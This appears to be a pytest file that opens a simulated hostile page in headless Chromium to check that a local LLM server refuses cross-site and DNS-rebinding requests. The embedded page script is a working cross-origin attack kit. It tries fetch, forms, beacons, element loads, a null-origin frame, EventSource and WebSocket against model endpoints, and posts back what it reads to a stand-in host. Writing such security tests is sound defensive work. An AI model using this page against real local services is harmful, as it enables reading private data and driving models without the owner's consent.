"""A real browser with a hostile page open: no request of the page is answered with content.

It runs where Chromium or Chrome is installed (Debian: `apt-get install chromium`).
"""

from __future__ import annotations

import http.client
import json
import shutil
import subprocess
import threading
from collections import defaultdict
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from test_access import SECRET, Engine

from live import listening
from selection import FULL
from specdec_mlx.server.app import make_app
from specdec_mlx.server.flags import ServerSettings

CHROME_ON_MAC = "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome"
BROWSERS = "chromium", "chromium-browser", "google-chrome", "google-chrome-stable", CHROME_ON_MAC
BROWSER = next(filter(None, map(shutil.which, BROWSERS)), None)
SECONDS = 120  # after which a test that waits fails

FOREIGN = "evil.example"  # resolves to this machine, where a hostile page is served
REBOUND = "rebound.example"  # serves the same page, and then resolves to the server

PAGE = """<!doctype html><meta name="referrer" content="%(referrer)s"><body><script>
const base = "%(base)s", told = {};
const chat = JSON.stringify({messages: [{role: "user", content: "go"}]});
const at = (name, path) => `${base}${path}?name=${name}`;
async function attempt(name, path, how) {
  try {
    const reply = await fetch(at(name, path), how);
    told[name] = `${reply.type} ${reply.status} ${await reply.text()}`;
  } catch (error) { told[name] = `failed: ${error}`; }
}
function element(name, tag, attributes, path) {
  return new Promise(done => {
    const made = Object.assign(document.createElement(tag), attributes(at(name, path)));
    made.onload = () => { told[name] = "load"; done(); };
    made.onerror = () => { told[name] = "error"; done(); };
    setTimeout(done, 3000);
    document.body.append(made);
  });
}
function form(name, path, how) {
  return new Promise(done => {
    const frame = document.createElement("iframe"), form = document.createElement("form");
    frame.name = "frame of " + name;
    Object.assign(form, {target: frame.name, action: at(name, path), ...how});
    const field = Object.assign(document.createElement("input"), {name: chat, value: ""});
    form.append(field);
    document.body.append(frame, form);
    frame.onload = () => setTimeout(done, 500);
    setTimeout(done, 3000);
    form.submit();
  });
}
function framed(name, sandbox, path) {  // a frame of the origin "null"
  const code = `fetch("${at(name, path)}", {method: "POST", body: ${JSON.stringify(chat)}})`
    + `.then(r => r.text()).then(t => parent.postMessage(["${name}", t], "*"))`
    + `.catch(e => parent.postMessage(["${name}", "failed"], "*"))`;
  return new Promise(done => {
    addEventListener("message", event => { told[event.data[0]] = event.data[1]; done(); });
    setTimeout(done, 3000);
    const frame = Object.assign(document.createElement("iframe"), {srcdoc:
      "<script>" + code + "<" + "/script>"});
    frame.sandbox = sandbox;
    document.body.append(frame);
  });
}
function events(name, path) {
  return new Promise(done => {
    const source = new EventSource(at(name, path));
    source.onmessage = event => { told[name] = event.data; };
    source.onerror = () => { told[name] ??= "error"; source.close(); done(); };
  });
}
function socket(name, path) {
  return new Promise(done => {
    const made = new WebSocket(at(name, path).replace("http", "ws"));
    made.onopen = () => { told[name] = "open"; done(); };
    made.onerror = () => { told[name] = "error"; done(); };
  });
}
(async () => {
  const json = {"Content-Type": "application/json"}, text = {"Content-Type": "text/plain"};
  for (const path of ["/", "/health", "/metrics", "/v1/models"])
    await attempt("get" + path, path, {});
  await attempt("posted", "/v1/chat/completions", {method: "POST", headers: json, body: chat});
  await attempt("with key", "/v1/chat/completions",
    {method: "POST", headers: {...json, Authorization: "Bearer none"}, body: chat});
  await attempt("simple", "/v1/chat/completions", {method: "POST", headers: text, body: chat});
  await attempt("messages", "/v1/messages",
    {method: "POST", headers: text, body: chat.replace("{", '{"max_tokens": 9, ')});
  await attempt("opaque post", "/v1/chat/completions",
    {method: "POST", mode: "no-cors", headers: text, body: chat});
  await attempt("opaque get", "/v1/models", {mode: "no-cors"});
  navigator.sendBeacon(at("beacon", "/v1/chat/completions"), chat);
  await form("form", "/v1/chat/completions", {method: "post", enctype: "text/plain"});
  await form("form of a search", "/v1/models", {method: "get"});
  await element("picture", "img", src => ({src}), "/v1/models");
  await element("script", "script", src => ({src}), "/v1/models");
  await element("frame", "iframe", src => ({src}), "/");
  await element("style", "link", href => ({href, rel: "stylesheet"}), "/");
  await element("object", "object", data => ({data}), "/v1/models");
  await element("film", "video", src => ({src}), "/v1/models");
  await framed("sandboxed", "allow-scripts", "/v1/chat/completions");
  await events("events", "/v1/models");
  await socket("socket", "/v1/responses");
  await fetch("/told", {method: "POST", body: JSON.stringify(told)});
  location = at("link", "/");
})();
</script>"""

KINDS = {
    *("get/", "get/health", "get/metrics", "get/v1/models", "posted", "with key", "simple"),
    *("messages", "opaque post", "opaque get", "beacon", "form", "picture", "script", "frame"),
    *("style", "object", "film", "sandboxed", "events", "socket", "link"),
}
"""The attempts of the page that have their name in the address."""


@dataclass
class Seen:
    """Answers of the server by the attempt's name, as status and text, and the page's report."""

    answers: dict[str, list[tuple[int, str]]] = field(default_factory=lambda: defaultdict(list))
    report: dict[str, str] = field(default_factory=dict)
    has_report: threading.Event = field(default_factory=threading.Event)
    has_left: threading.Event = field(default_factory=threading.Event)


def watched(app: Any, seen: Seen) -> Any:
    """The application, whose answers are noted."""

    async def served(scope: Any, receive: Any, send: Any) -> None:
        sent: list[Any] = []

        async def note(message: Any) -> None:
            sent.append(message)
            await send(message)

        await app(scope, receive, note)
        query = parse_qs(scope["query_string"].decode())
        (name,) = query.get("name", ["form of a search"])
        text = b"".join(message.get("body", b"") for message in sent[1:]).decode()
        seen.answers[name].append((sent[0]["status"], text))
        if name == "link":
            seen.has_left.set()

    return served


@contextmanager
def page_at(base: str, port: int, seen: Seen, referrer: str) -> Iterator[int]:
    """The port of a server of the hostile page.

    Under the name that is rebound, all but the page and its report goes on to the server on `port`,
    as it came: to a browser that is what a name is that resolves to another address now.
    """

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if urlsplit(self.path).path != "/page":
                self.relay()
                return
            own = base if FOREIGN in self.headers["Host"] or "local" in self.headers["Host"] else ""
            self.reply(200, "text/html", (PAGE % {"base": own, "referrer": referrer}).encode())

        def do_POST(self) -> None:
            if self.path != "/told":
                self.relay()
                return
            seen.report = json.loads(self.body())
            seen.has_report.set()
            self.reply(200, "text/plain", b"")

        do_OPTIONS = do_GET  # noqa: N815

        def relay(self) -> None:
            if not self.headers["Host"].startswith(REBOUND):  # a browser's own, as for an icon
                self.reply(404, "text/plain", b"")
                return
            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=SECONDS)
            body = self.body()
            connection.putrequest(self.command, self.path, skip_host=True)
            for name, value in self.headers.items():
                if name.lower() not in ("connection", "upgrade"):
                    connection.putheader(name, value)
            connection.endheaders(body)
            answer = connection.getresponse()
            self.reply(answer.status, answer.getheader("Content-Type") or "", answer.read())

        def body(self) -> bytes:
            return self.rfile.read(int(self.headers.get("Content-Length") or 0))

        def reply(self, status: int, kind: str, body: bytes) -> None:
            self.send_response(status)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_port
    finally:
        server.shutdown()
        server.server_close()


def browse(host: str, folder: Path, server: str = "localhost", referrer: str = "origin") -> Seen:
    """All that happened while a browser had the page open under a host name."""
    seen, engine = Seen(), Engine()
    app = watched(make_app(engine, ServerSettings()), seen)  # type: ignore[arg-type]
    with (
        listening(app, lifespan="off", ws="none") as port,
        page_at(f"http://{server}:{port}", port, seen, referrer) as page,
    ):
        rules = ", ".join(f"MAP {name} 127.0.0.1:{page}" for name in (FOREIGN, REBOUND))
        command = [
            *(str(BROWSER), "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run"),
            *(f"--user-data-dir={folder}", f"--host-resolver-rules={rules}"),
            f"http://{host}/page".replace("localhost/", f"localhost:{page}/"),
        ]
        output = folder / "output.txt"
        folder.mkdir(exist_ok=True)
        with (
            output.open("wb") as file,
            subprocess.Popen(command, stdout=file, stderr=file) as browser,
        ):
            try:
                assert seen.has_report.wait(SECONDS), output.read_text(errors="replace")
                if host != REBOUND:
                    assert seen.has_left.wait(SECONDS)
            finally:
                browser.kill()
    return seen


needs_browser = pytest.mark.skipif(BROWSER is None, reason="no Chromium is installed")


@FULL
@needs_browser
@pytest.mark.parametrize("server", ["localhost", "127.0.0.1"])
def test_a_page_of_another_site_gets_nothing(server: str, tmp_path: Path) -> None:
    """Whatever the page tries: each attempt reaches the server, and none is answered."""
    seen = browse(FOREIGN, tmp_path / "profile", server)
    assert KINDS - seen.answers.keys() == set()
    for name, answers in seen.answers.items():
        for status, text in answers:
            assert status == 403, name
            assert SECRET not in text
    assert not any(SECRET in told or "running" in told for told in seen.report.values())
    read = {name: told for name, told in seen.report.items() if "403" in told or "200" in told}
    assert read == {}  # not even the refusal can be read


@FULL
@needs_browser
def test_a_form_without_a_referrer_gets_nothing(tmp_path: Path) -> None:
    """Its origin is "null" then."""
    seen = browse(FOREIGN, tmp_path / "profile", referrer="no-referrer")
    assert [status for status, _ in seen.answers["form"]] == [403]


@FULL
@needs_browser
def test_a_page_whose_name_is_rebound_to_this_machine_gets_nothing(tmp_path: Path) -> None:
    """To the browser the server is of the page's own site: only the name gives it away."""
    seen = browse(REBOUND, tmp_path / "profile")
    assert {"get/v1/models", "posted", "simple", "messages", "form"} <= seen.answers.keys()
    assert {status for answers in seen.answers.values() for status, _ in answers} == {403}
    assert "403" in seen.report["posted"]  # which the page can read
    assert not any(SECRET in told for told in seen.report.values())


@FULL
@needs_browser
def test_a_page_of_this_machine_is_answered(tmp_path: Path) -> None:
    """The same page on another port: so the attempts above would get the content."""
    seen = browse("localhost", tmp_path / "profile")
    for name in ("posted", "with key", "simple", "messages"):
        assert SECRET in seen.report[name], name
    assert "200" in seen.report["get/v1/models"]
    assert {status for status, _ in seen.answers["opaque post"]} == {200}
    assert {status for status, _ in seen.answers["picture"]} == {200}
    assert {status for status, _ in seen.answers["sandboxed"]} == {403}
